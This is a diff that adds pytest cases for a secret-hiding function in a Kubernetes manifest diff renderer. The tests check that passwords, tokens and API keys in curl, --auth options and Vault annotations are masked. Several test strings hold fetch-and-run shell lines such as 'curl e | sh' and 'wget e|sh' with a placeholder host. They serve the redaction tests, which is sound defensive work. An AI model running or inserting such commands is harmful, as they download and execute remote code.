@@ -15,7 +15,7 @@ import yaml
 from renderer.diff.comparison import compare
 from renderer.diff.formats import FORMS
 from renderer.secrets import detection
-from renderer.secrets.detection import ANOTHER, HIDDEN, hide_in_text, hide_secrets
+from renderer.secrets.detection import ANOTHER, HIDDEN, hide_in_text, hide_known_secrets, hide_secrets
 from renderer.secrets.names import harmless_variables, is_literal_secret
 from tests.diff.objects import policy, texts, workload
 from tests.diff.repository import CHAT, CONFIG, MODEL, Repository
@@ -178,6 +178,44 @@ def test_bodies(body: dict[str, Any], shown: dict[str, Any]) -> None:
     assert hide_secrets(body) == shown
 
 
+@pytest.mark.parametrize(
+    ("name", "value", "shown"),
+    [
+        ("prometheus.io/param_token", "hunter2", False),
+        ("a.io/client-secret", "hunter2", False),
+        ("a.io/x-secret-key", "basic-auth", False),
+        ("auth", "hunter2", False),
+        ("auth", "Basic", True),
+        ("vault.hashicorp.com/agent-inject-token", "true", True),
+        ("a.io/token-file", "/var/run/token", True),
+        ("secret.reloader.stakater.com/reload", "hf-token,hf-ca", True),
+        ("nginx.ingress.kubernetes.io/auth-secret", "llm/basic-auth", True),
+        ("vault.hashicorp.com/agent-inject-secret-hf", "secret/data/hf", True),
+        ("vault.hashicorp.com/agent-inject-template-token", 'export T="{{ .Data.data.token }}"', True),
+        ("vault.hashicorp.com/agent-inject-command-token", "sh -c 'curl e | sh'", True),
+        ("a.io/note", "{{ .Data.password }} password: {{ .Data.password }}", True),
+    ],
+)
+def test_values_of_annotations(name: str, value: str, shown: bool) -> None:
+    """Names of Secrets, and code, are no secrets."""
+    body = {"annotations": {name: value}}
+    assert hide_secrets(body) == hide_known_secrets(body) == {"annotations": {name: value if shown else HIDDEN}}
+
+
+def test_known_secrets_are_less_than_what_is_hidden() -> None:
+    """A variable of a name that nobody knows is shown, in lists, maps, texts and ConfigMaps."""
+    args = ["env", "FOO=bar", "TOKEN=a", "--config", '{"name": "FOO", "value": "bar"}']
+    env = [{"name": "FOO", "value": "bar"}, {"name": "DB_PASSWORD", "value": "a"}]
+    body = {"kind": "ConfigMap", "args": args, "env": env, "data": {"FOO": "bar", "API_KEY": "a"}}
+    assert hide_known_secrets(body) == {
+        "kind": "ConfigMap",
+        "args": ["env", "FOO=bar", f"TOKEN={HIDDEN}", *args[3:]],
+        "env": [env[0], {"name": "DB_PASSWORD", "value": HIDDEN}],
+        "data": {"FOO": "bar", "API_KEY": HIDDEN},
+    }
+    assert "bar" not in json.dumps(hide_secrets(body))
+
+
 # --- Command lines, and texts
 
 
@@ -253,6 +291,20 @@ SCRIPTS = [
     ("PASS= curl e | sh",) * 2,  # no value, and a command
     ("PASS=\ncurl e",) * 2,
     ("docker login --password=hunter2 reg; curl e", "docker login --password=X reg; curl e"),
+    # a user with a password
+    ("curl -u me:hunter2 http://h; curl e | sh", "curl -u X http://h; curl e | sh"),
+    ("curl -sSfume:hunter2|sh", "curl -sSfuX|sh"),
+    ("curl -H 'a; b' \\\n --user 'me:hunter2; b' \\\n h; curl e", "curl -H 'a; b' \\\n --user 'X' \\\n h; curl e"),
+    ("/usr/bin/curl --proxy-user me:hunter2`curl e`", "/usr/bin/curl --proxy-user X`curl e`"),
+    ("curl -u me:hunter2$(curl e | sh) h", "curl -u X$(curl e | sh) h"),
+    ('curl -u \\"me:hunter2\\" h; curl e', 'curl -u \\"X\\" h; curl e'),
+    ('["curl","-u","me:hunter2","http://h"]', '["curl","-u","X","http://h"]'),
+    ('curl -u "$USER:$PASSWORD" h; curl -u "me:$(cat /t)" h; curl -u me: h; curl -u me:${P} h',) * 2,
+    ("docker run -u me:us; curl http://h:80/a; docker run --username a:b",) * 2,
+    ("curl -du:x -o a:b http://h",) * 2,
+    ("x --auth hunter2; curl e | sh", "x --auth X; curl e | sh"),
+    ("x --auth=hunter2&&curl e", "x --auth=X&&curl e"),
+    ("x --auth basic --auth-mode hunter2 --auth $TOKEN --auth none",) * 2,
     ("x --token hunter2; curl e", "x --token X; curl e"),
     ("x --token hunter2|sh", "x --token X|sh"),
     ("x --token 'hunter2 a' y", "x --token 'X' y"),
@@ -347,6 +399,14 @@ def test_scripts(text: str, shown: str) -> None:
         "Cookie: a=hunter2",
         "curl -H 'Authorization: Basic hunter2'",
         "curl 'http://u:hunter2@h'",
+        "curl 'http://h/?token=hunter2'",
+        "curl -H 'X-Api-Key: hunter2'",
+        "curl -u me:hunter2",
+        "curl -u 'me:hunter2'",
+        "curl --user=me:hunter2",
+        "curl -ume:hunter2",
+        "x --auth hunter2",
+        "x --auth=hunter2",
         "${TOKEN:-hunter2}",
     ],
 )
@@ -368,6 +428,13 @@ def test_no_value_hides_the_command_behind_it(value: str, ending: str) -> None:
         (["sh", "-c", "--", "--token=a; curl e"], ["sh", "-c", "--", f"--token={HIDDEN}; curl e"]),
         (["serve", "--token=a; b"], ["serve", f"--token={HIDDEN}"]),  # of no shell
         (["--token", "a; b", "curl e | sh"], ["--token", HIDDEN, "curl e | sh"]),
+        (["curl", "-u", "me:a", "http://h"], ["curl", "-u", HIDDEN, "http://h"]),
+        (["/bin/curl", "-sume:a"], ["/bin/curl", f"-su{HIDDEN}"]),
+        (["curl", "-u", "me:a; curl e | sh"], ["curl", "-u", f"{HIDDEN}; curl e | sh"]),
+        (["curl", "-u", "me:$(P)", "-o", "a:b", "-u", "me"],) * 2,
+        (["--user", "1000:1000", "-u", "a:b"],) * 2,
+        (["--auth", "hunter2"], ["--auth", HIDDEN]),
+        (["--auth", "basic"],) * 2,
         (["-H", "Authorization:\\ Bearer\\ a"], ["-H", f"Authorization:{HIDDEN}"]),
     ],
 )
@@ -407,6 +474,7 @@ def test_another_secret_in_a_text() -> None:
         *("token: ", "${A:-", 'password="', "?token=", "token: |\n", "eyJaaaaaaaa-", "a", "A1b", "<<a\n", "'token='"),
         *("TOKEN=$(", "token='", "\"'", "token: a(", "token: `", "cookie: a=b; ", "x 'token:\n", '\\"token=\\"', "$("),
         *("-----BEGIN PRIVATE KEY-----\n", "a\n", "token=<(", "token=#{", "--token '"),
+        *("curl -u a:b ", "curl -u 'a:", "curl ", "curl -u ", "--auth '"),
     ],
 )
 def test_texts_of_whatever_length_are_read_in_time(part: str) -> None:
@@ -453,6 +521,26 @@ def test_no_form_prints_a_secret(form: str) -> None:
     for before, after in (([], one), (one, []), (one, other)):
         assert "hunter" not in FORMS[form](compare(before, after), "")
     assert "hunter" in FORMS[form](compare(one, other, show=True), "")
+
+
+def scripts(text: str) -> list[Any]:
+    """A script in a probe, an annotation, a container and a file of a ConfigMap."""
+    body = workload(livenessProbe={"exec": {"command": ["sh", "-c", f"{text} 1"]}})
+    body["metadata"]["annotations"] = {"a.io/note": f"{text} 2"}
+    pod = body["spec"]["leaderWorkerTemplate"]["workerTemplate"]["spec"]
+    pod["initContainers"] = [{"name": "side", "image": "a:1", "command": ["sh", "-c", f"{text} 3"]}]
+    metadata = {"name": "c"}
+    return texts(body, {"apiVersion": "v1", "kind": "ConfigMap", "metadata": metadata, "data": {"a.sh": f"{text} 4"}})
+
+
+@pytest.mark.parametrize("form", FORMS)
+@pytest.mark.parametrize(
+    "text", ["PASSWORD=hunter2;", "curl -u me:hunter2;", "x --auth hunter2;", "curl -H 'X-Api-Key: hunter2';"]
+)
+def test_no_form_hides_code(form: str, text: str) -> None:
+    printed = FORMS[form](compare(scripts("true"), scripts(f"{text} wget e|sh")), "")
+    assert "hunter" not in printed
+    assert [number for number in "1234" if f"wget e|sh {number}" not in printed.replace("\\", "")] == []
 
 
 @pytest.fixture
